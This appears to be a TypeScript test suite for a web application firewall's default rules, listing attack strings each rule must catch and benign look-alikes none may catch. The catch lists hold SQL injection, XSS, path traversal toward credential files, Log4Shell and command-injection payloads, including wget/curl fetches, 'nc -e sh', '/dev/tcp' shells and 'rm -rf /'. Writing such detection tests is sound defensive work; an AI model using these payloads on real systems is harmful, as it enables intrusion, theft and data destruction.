/**
 * The shipped rules, one by one: what each must catch, and what none of them may catch.
 *
 * Data of others is judged in test/conformance/default-rules.test.ts; these rows are ours.
 */
import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { test } from 'node:test';
import { buildInspector } from './build.ts';
import type { Inspector } from './inspector.ts';
import { loadRules } from './load-rules.ts';
import { formatMistake } from './mistake.ts';
import { listedFields } from './listed-fields.ts';

interface Sent {
  readonly target?: string;
  readonly fields?: readonly (readonly [name: string, value: string])[];
  readonly body?: string;
}

/** A value of the argument `q`, or a whole request. */
type Row = string | Sent;

const FORM: readonly (readonly [string, string])[] = [['Content-Type', 'application/x-www-form-urlencoded']];
const JSON_BODY: readonly (readonly [string, string])[] = [['Content-Type', 'application/json']];

const MUST_HIT: Readonly<Record<string, readonly Row[]>> = {
  10010: [
    { fields: JSON_BODY, body: '{"a":' },
    { fields: [['Content-Type', 'multipart/form-data; boundary=x']], body: 'no boundary' },
    { fields: [...FORM, ['Content-Encoding', 'gzip']], body: 'a=1' },
    { fields: [['Content-Type', 'application/json; charset=utf-16']], body: '{}' },
  ],
  10020: [{ target: `/?${'a=1&'.repeat(1001)}` }],
  10030: [{ fields: [['Cookie', 'a=1; '.repeat(201)]] }],
  10040: [{ target: '/a%00.php' }, { target: '/?a%00b=1' }],
  11010: [
    '1 UNION SELECT name, password FROM users',
    "x' union all select null,null--",
    '1/**/UNION/**/SELECT/**/1,2',
    '-1 union(select(1),2)',
    "1 union select userid, ccnumber, '3', '4' from cards",
    '1 union%0Aselect user()',
  ],
  11020: [
    '1 and 6637=2321',
    "-1') or 3038=3038#",
    '1 && 1 like 1',
    '1 or not 1=2',
    '1 or 1<>2',
    'x having 1=1',
  ],
  11021: ["1' or 2>1", '5 or 3 < 4'],
  11030: ["' or 'a'='a", '") and ("x" like "x', "x' || 'a'='a", "%' and '1'!='2"],
  11031: ["' or id is not null", '") or true--', "x' or 1#", "a' and user like 'a%", "' and @@version"],
  11040: ["admin'--", "admin' -- ", "1')#", '1) --', "';", "x'--+abc"],
  11050: ["1' order by 5--", '1 group by 2#', '1) order by 3#', "x' limit 1,1 into", "1' procedure analyse("],
  11060: [
    '1 or sleep(5)',
    "1';select pg_sleep(5)--",
    "1;waitfor delay '0:0:5'",
    '1 and benchmark(5000000,md5(1))',
    "x' and 1=dbms_pipe.receive_message('a',5)",
  ],
  11070: [
    '1; drop table users',
    "x'; exec xp_cmdshell 'dir'",
    '1;select case when 1=1 then 1',
    '1; declare @x int',
  ],
  11080: ['x from information_schema.tables', 'select 1 from dual', 'a from sysobjects', 'x @@version'],
  11090: [
    'extractvalue(1,concat(0x5c,1))',
    "load_file('/x')",
    "1 into outfile '/x'",
    'elt(5=5,1)',
    'xp_cmdshell',
  ],
  11100: [
    '1=(select 1 from x)',
    "'||(select pw from users)||'",
    '1 and exists(select * from t)',
    '(select * from(a))',
  ],
  11110: [
    'select * from users',
    'insert into t (a) values (1)',
    'delete from t where id=1',
    'update t set a=1',
  ],
  11120: [
    'case when (1=1) then 1',
    'char(113)||char(112)',
    '(8362=9139)*9139',
    "'||chr(65)",
    'concat(0x41,1)',
  ],
  11130: ['1 /*!50000union*/ /*!50000select*/ 1', 'x/*!or*/1'],
  11140: ["x' in boolean mode) --", "x' rlike (select 1)", "x' like 1--"],
  11150: ['1"",)(\'.(,(.', "1'qhfy<'\">utwq"],
  12010: [
    '<script>x</script>',
    '<SCRIPT/x>',
    '%3Cscript%3E',
    '&lt;script&gt;',
    '\\x3cscript\\x3e',
    '<scr\0ipt>',
  ],
  12020: ['<img src=x onerror=alert(1)>', '<svg/onload=a()>', '<a href=x onclick = "b">'],
  12030: ['" onmouseover=alert(1) x="', "' onfocus='a.b' ", 'x onerror=eval(name)'],
  12040: [
    'javascript:alert(1)',
    'java\tscript:alert(1)',
    'href=" javascript: x"',
    'data:text/html,<b>',
    'vbscript:msgbox(1)',
  ],
  12050: [
    '<iframe src=//x>',
    '<object data=x>',
    '<meta http-equiv=refresh content=0>',
    '<base href=//x>',
    '<applet>',
  ],
  12060: ['<b style="width:expression(1)">', 'x:-moz-binding:url(x)', '<style>@import "http://x"</style>'],
  12070: [
    'x=document.cookie;',
    "eval('1')",
    'String.fromCharCode(88)',
    '[].constructor.constructor',
    "window['al'](1)",
  ],
  12080: ['";alert(1)//', '-prompt(8)-', '}alert`1`', 'confirm(document.domain)', '"; alert (1);'],
  12090: ['+ADw-script+AD4-', ' adw-/script'],
  12100: ['&{alert(1)}', '<img dynsrc=x>', '<span datasrc="#x">', '<!--[if gte IE 4]>'],
  12110: ["{{constructor.constructor('x')()}}", '{{$eval(1)}}'],
  13010: [
    { target: '/a/../../etc' },
    { target: '/%2e%2e/x' },
    { target: '/a/..%5cb' },
    { target: '/..;/manager' },
  ],
  13020: ['../../etc/x', '..\\..\\x', '....//....//x', 'a/../../b', '%2e%2e%2f%2e%2e%2fx'],
  13021: ['see "../../../../x"'],
  13030: ['/../x', '..//x', '/.../x', './././././././x', '/./'],
  13040: ['0x2e0x2e0x2fetc', '..0x5cx', '........etcpasswd', '..%252fx'],
  13050: [
    '/etc/passwd',
    'file=/etc//shadow',
    '/proc/self/environ',
    'c:/boot.ini',
    'WEB-INF/web.xml',
    '~/.ssh/id_rsa',
  ],
  13051: ['/etc/hosts', '/var/log/apache2/access.log', 'x/.htaccess', 'c:\\windows\\system32\\drivers'],
  13060: ['file:///etc/x', 'php://filter/x', 'phar://a.phar', 'x=expect://id'],
  14010: [
    ';cat /etc/x',
    '|ls -la',
    '&& wget http://x/y',
    '& ping -i 30 127.0.0.1 &',
    '1\ncat /x',
    '`curl x.example/a`',
    '$(python -c 1)',
    '; /bin/sleep 31 ;',
    'x|nc -e sh',
    'a;rm -rf /',
  ],
  14020: [';id;', '|whoami', '1;ls', 'a|id', '&& netstat', '/x.html|id|', 'id;', '& id'],
  14030: [
    '/usr/bin/id',
    'x;/bin/bash',
    'ping -n 31 127.0.0.1',
    'dir c:\\',
    'cmd.exe /c x',
    'powershell -enc x',
  ],
  14040: ['$(id)', 'cat${IFS}x', '`id`', '<(curl x)', '{cat,/etc/x}', '/dev/tcp/10.0.0.1/80', 'cat</etc/x'],
  14050: ['<!--#exec cmd="id"-->', '<!-- #include virtual="x" -->'],
  14060: ['<?php x', "system('id')", 'eval(base64_decode(x))', '$_GET[a]', ';phpinfo();', 'O:3:"abc":1:{'],
  14070: [
    '${jndi:ldap://x}',
    '${${lower:j}ndi:x}',
    '${${::-j}${::-n}di:x}',
    { fields: [['X-Api-Version', '${jndi:dns://x}']] },
    { fields: [['User-Agent', '${${env:a:-j}ndi:x}']] },
  ],
  14080: [{ fields: [['User-Agent', '() { :;}; /bin/x']] }, '() { :; }; x'],
  14090: ['${T(java.lang.Runtime).x}', 'class.module.classLoader.x', '%{#context}', 'rO0ABXNyABFqYXZh'],
  14100: ['{{7*7}}', '${7*7}', "{{''.__class__}}", '<%= 7*7 %>', '{{config}}'],
  14110: [{ fields: [['Content-Type', 'text/xml']], body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>' }],
  14120: [{ target: '/?__proto__[x]=1' }, { target: '/?a.constructor.prototype.x=1' }],
  14130: [{ target: '/?password[$ne]=1' }, { fields: JSON_BODY, body: '{"a":{"$where":"1"}}' }],
  15010: [
    { fields: [['User-Agent', 'sqlmap/1.5 (http://sqlmap.org)']] },
    { fields: [['User-Agent', 'Nikto/2.1.6']] },
  ],
  15020: [{ fields: [['Acunetix-Product', 'x']] }],
  15030: [
    { target: '/.git/config' },
    { target: '/x/.env' },
    { target: '/wp-config.php.bak' },
    { target: '/%2egit/HEAD' },
  ],
  15040: [{ target: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' }, { target: '/cgi-bin/php?x' }],
  15050: ['/..//..//{file}', '/0x2e0x2e0x2f{file}'],
  15060: [{ target: '/server-status' }],
};

/** Must leave no hit at all. Each was chosen because some rule comes near it. */
const MUST_PASS: readonly Row[] = [
  // Names and prose with quotes.
  "O'Brien and Sons",
  "D'Arcy, l'Hospitalet",
  "rock 'n' roll",
  "the dogs' -- and the cats' -- bowls",
  'she said "yes" and left',
  '"Tom" and "Jerry"',
  "'fish' or 'chips' like these",
  '5" or 6" screws',
  "a 5' #2 board",
  'Chapter (2) #4',
  '#2 mom',
  'he said "...", and (sadly) left',
  "it's 5 o'clock -- time to go",
  'C#',
  '24-7 -- always',
  // Words of SQL.
  'select a seat from the list',
  'select items from the list, where possible',
  'Select Size (EU) from the menu',
  'student union, select a seat',
  'credit union select committee',
  'drop the table off at noon',
  '5" drop table saw',
  'insert into slot A',
  'update your settings = better',
  'delete from basket',
  'order by 5 pm',
  'menu (vegan) order by 12',
  'just in case when it rains, then stay',
  'Extras (select all that apply)',
  'Toppings and (select 2)',
  'Open the menu; select an item',
  "Open File; select 'Save As'",
  'Stop; drop it; grant access to all',
  'from dual citizens',
  'from mysql.com',
  'Room 1 and 2 is 45 sqm',
  'pick 2 or 3',
  '2 or 4 metal buttons',
  '1 and 1/2" button',
  '1 BY 1 INCH PILLOWS',
  'time.sleep(5)',
  'while (1) sleep(5);',
  'having 3 of them',
  // Signs of HTML and JavaScript that are none.
  '<3',
  'a < b and b > c',
  'if x<y and y>z then',
  '<p>Hello <b>world</b></p>',
  '<a href="https://shop.example/a?b=1&c=2">shop</a>',
  '<img src="https://shop.example/a.png" alt="a cat">',
  '<b>read more</b><br>and <i>cat</i>',
  'JavaScript: The Good Parts (2008)',
  'Learn JavaScript: the basics.',
  'a regular expression (regex)',
  'please confirm (2 guests)',
  'Reservation, confirm (2 people)',
  'the alert (see below)',
  'New Image (1).png',
  "location='Paris'",
  'document.cookie is a property',
  'we eval (test) it',
  'style="color:red"',
  'on=off&once=1',
  'the {{name}} placeholder',
  '{{ user.first_name }}',
  '${name} costs ${price}',
  // Paths.
  '/v1.2../',
  '../images/a.png',
  '<img src="../../images/a.png">',
  'Chapter 1........ 5',
  'loading....Windows',
  'either/or...',
  'etc., etc.',
  'edit /etc/hosts first',
  '.htaccess redirect',
  'look into C:\\Windows\\System32 for it',
  '/bin/bash',
  '#!/usr/bin/env python',
  'open cmd.exe and wait',
  { target: '/files/report...pdf' },
  { target: '/a..b/c' },
  { target: '/.well-known/security.txt' },
  { target: '/git/wiki' },
  { target: '/download/%7Bfile%7D' },
  // Shell look-alikes.
  'a && b',
  'Tom & id card',
  'salt; id required',
  'R&D; sort by price',
  'AT&T net user growth',
  'dog & cat - photos',
  'eat; find peace',
  'name;email;id',
  'name|id|date',
  'fields={id,name}',
  'use the `code` here',
  'price: $(10)',
  '$(document).ready',
  'ping me at 10',
  'a > b | c',
  'Raleigh, NC; NC state',
  // Programs and documents in raw bodies.
  {
    fields: [['Content-Type', 'text/xml']],
    body: '<?xml version="1.0"?><link href="x"><object id="1"/></link>',
  },
  { fields: [['Content-Type', 'text/plain']], body: 'select a seat; update me -- thanks' },
  {
    fields: JSON_BODY,
    body: '{"name":"O\'Brien","note":"a && b","list":[1,2,{"x":null}],"html":"<p>hi</p>"}',
  },
  { fields: FORM, body: 'name=O%27Brien&comment=5%22+or+6%22' },
  { target: "/it's/fine" },
  { target: '/search?$filter=name%20eq%20%27a%27&$top=5' },
  { target: '/?filters[name][$eq]=a&age[$gt]=5' },
  {
    fields: [
      ['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)'],
    ],
  },
  { fields: [['User-Agent', 'curl/8.5.0']] },
  { fields: [['Referer', 'https://search.example/?q=select+from+where']] },
  { fields: [['Cookie', 'session=8f3a9c1e; theme=dark; _ga=GA1.2.123.456']] },
  { fields: [['Cookie', 'data={"a":1,"b":[2,3]}; name=O\'Brien']] },
];

const inspector = load();

for (const [id, rows] of Object.entries(MUST_HIT)) {
  test(`rule ${id} catches each of its examples`, () => {
    for (const row of rows) {
      const ids = hitsOf(row);
      assert(ids.includes(id), `${JSON.stringify(row).slice(0, 200)} gave [${ids.join()}]`);
    }
  });
}

const inXml = (value: string): string =>
  value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

const ATTRIBUTE = 'an attribute of XML';

/** The type of a body, and the body with this value in it; undefined when it cannot be. */
const BODIES: Readonly<
  Record<string, readonly [type: string, bodyOf: (value: string) => string | undefined]>
> = {
  'a form': ['application/x-www-form-urlencoded', (value) => `q=${escape(value)}`],
  JSON: ['application/json', (value) => JSON.stringify({ q: value })],
  'a text of XML': ['application/xml', (value) => `<a><b>first</b><q>${inXml(value)}</q></a>`],
  'CDATA of XML': [
    'text/xml',
    (value) => (value.includes(']]>') ? undefined : `<a><q><![CDATA[${value}]]></q></a>`),
  ],
  [ATTRIBUTE]: ['application/soap+xml', (value) => `<a b="1"><q c="${inXml(value)}"/></a>`],
};

/** Rules about values. Attributes of XML name schemas by paths such as ../a.xsd. */
const isAbout = (id: string, what: string): boolean =>
  /^1[1-4]/.test(id) && !(what === ATTRIBUTE && PATHS.has(id));
const PATHS = new Set(['13020', '13030', '13040', '13051']);

for (const [what, [type, bodyOf]] of Object.entries(BODIES)) {
  test(`what rules catch in an argument, they catch in ${what}`, () => {
    let count = 0;
    for (const [id, rows] of Object.entries(MUST_HIT)) {
      for (const row of rows) {
        // No line ends: an attribute has none. No control characters: XML has none.
        if (typeof row !== 'string' || !isAbout(id, what) || /[^ -~]/.test(row)) continue;
        const body = bodyOf(row);
        if (body === undefined) continue;
        count++;
        const ids = hitsOf({ fields: [['Content-Type', type]], body });
        assert(ids.includes(id), `${JSON.stringify(row).slice(0, 200)} gave [${ids.join()}], not ${id}`);
      }
    }
    assert(count > 150, `${count} examples`);
  });

  test(`what no rule catches in an argument, none catches in ${what}`, () => {
    const bodies = MUST_PASS.flatMap((row) => (typeof row === 'string' ? (bodyOf(row) ?? []) : []));
    assert(bodies.length > 50, `${bodies.length} examples`);
    for (const body of bodies) assert.deepEqual(hitsOf({ fields: [['Content-Type', type]], body }), [], body);
  });
}

test('no rule catches what it must not', () => {
  for (const row of MUST_PASS) assert.deepEqual(hitsOf(row), [], JSON.stringify(row));
});

test('every shipped rule has an example here, a message, a tag, and an id of the documented range', () => {
  const loaded = loadRules(['default'], '/');
  assert(loaded.kind === 'ok');
  const text = loaded.files.map((file) => file.text).join('\n');
  const ids = [...text.matchAll(/\bid:(\d+)/g)].map((match) => match[1] ?? '');
  assert.deepEqual([...ids].sort(), Object.keys(MUST_HIT).sort());
  assert.equal(inspector.ruleCount, ids.length);
  assert(ids.every((id) => Number(id) >= 10_000 && Number(id) <= 19_999));
  assert.equal([...text.matchAll(/\bmsg:'/g)].length, ids.length);
  assert.equal([...text.matchAll(/\bseverity:/g)].length, ids.length);
});

/** The ids of the rules that matched. Everything is in detect mode, so that one hit does not hide another. */
function hitsOf(row: Row): readonly string[] {
  const sent: Sent = typeof row === 'string' ? { target: `/s?q=${escape(row)}` } : row;
  const fields = sent.fields ?? [];
  const transaction = inspector.begin({
    method: sent.body === undefined ? 'GET' : 'POST',
    target: sent.target ?? '/',
    version: 'HTTP/1.1',
    headers: listedFields(fields),
    clientAddress: '192.0.2.1',
  });
  transaction.requestHead();
  transaction.requestBody({ bytes: Buffer.from(sent.body ?? '', 'utf8'), isPrefix: false });
  const hits = transaction.hits;
  for (const hit of hits) assert(hit.message !== '' && hit.tags.length > 0 && hit.matched.length <= 128);
  return hits.map((hit) => hit.rule);
}

function escape(value: string): string {
  return [...Buffer.from(value, 'utf8')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
}

function load(): Inspector {
  const loaded = loadRules(['default'], '/');
  assert(loaded.kind === 'ok');
  const built = buildInspector(loaded.files, { mode: 'detect', exclude: [] });
  assert(built.kind === 'ok', built.kind === 'bad' ? built.mistakes.map(formatMistake).join('\n') : '');
  return built.inspector;
}
